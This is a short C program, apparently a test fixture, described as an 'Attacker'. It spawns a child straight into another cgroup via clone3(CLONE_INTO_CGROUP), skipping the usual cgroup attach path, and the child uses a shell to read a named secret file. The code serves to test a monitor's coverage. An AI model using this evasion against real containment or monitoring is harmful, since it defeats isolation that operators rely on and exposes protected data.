/* Attacker: a child born straight into another cgroup with
 * clone3(CLONE_INTO_CGROUP) -- no write to cgroup.procs, no
 * cgroup_attach_task. The child runs a shell that reads a file and execs.
 * Usage: clone3_into_cgroup CGROUP_DIR SECRET. Prints the child's pid, then
 * its wait status. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: %s CGROUP_DIR SECRET\n", argv[0]);
        return 2;
    }
    int cgroup = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (cgroup < 0) {
        perror("open cgroup");
        return 1;
    }
    char command[4096];
    snprintf(command, sizeof(command), "/usr/bin/cat %s; /usr/bin/true escaped", argv[2]);
    struct clone_args args;
    memset(&args, 0, sizeof(args));
    args.flags = CLONE_INTO_CGROUP;
    args.exit_signal = SIGCHLD;
    args.cgroup = (uint64_t)cgroup;
    /* The child waits until its pid is printed, so the output's order is fixed. */
    int go[2];
    if (pipe(go) < 0) {
        perror("pipe");
        return 1;
    }
    fflush(stdout);
    long pid = syscall(SYS_clone3, &args, sizeof(args));
    if (pid < 0) {
        perror("clone3");
        return 1;
    }
    if (pid == 0) {
        char byte;
        close(go[1]);
        if (read(go[0], &byte, 1) != 1)
            _exit(126);
        close(go[0]);
        execl("/bin/sh", "/bin/sh", "-c", command, (char *)NULL);
        _exit(127);
    }
    printf("%ld\n", pid);
    fflush(stdout);
    /* (the read end stays open here: a child killed at birth must not SIGPIPE us) */
    if (write(go[1], "g", 1) != 1)
        perror("write");
    close(go[1]);
    int status = 0;
    waitpid((pid_t)pid, &status, 0);
    printf("%d\n", status);
    return 0;
}
